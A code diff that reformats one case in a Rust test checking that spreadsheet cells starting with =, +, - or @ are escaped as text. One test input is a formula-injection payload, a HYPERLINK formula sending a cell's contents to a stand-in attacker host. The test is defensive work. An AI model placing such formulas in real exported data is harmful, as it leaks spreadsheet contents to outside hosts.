@@ -110,7 +110,10 @@ mod tests {
     #[test]
     fn text_that_starts_like_a_formula_is_written_as_text() {
         for (raw, written) in [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\"'=HYPERLINK("),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "\"'=HYPERLINK(",
+            ),
             ("+62812", "'+62812"),
             ("-1+2", "'-1+2"),
             ("@SUM(A1)", "'@SUM(A1)"),
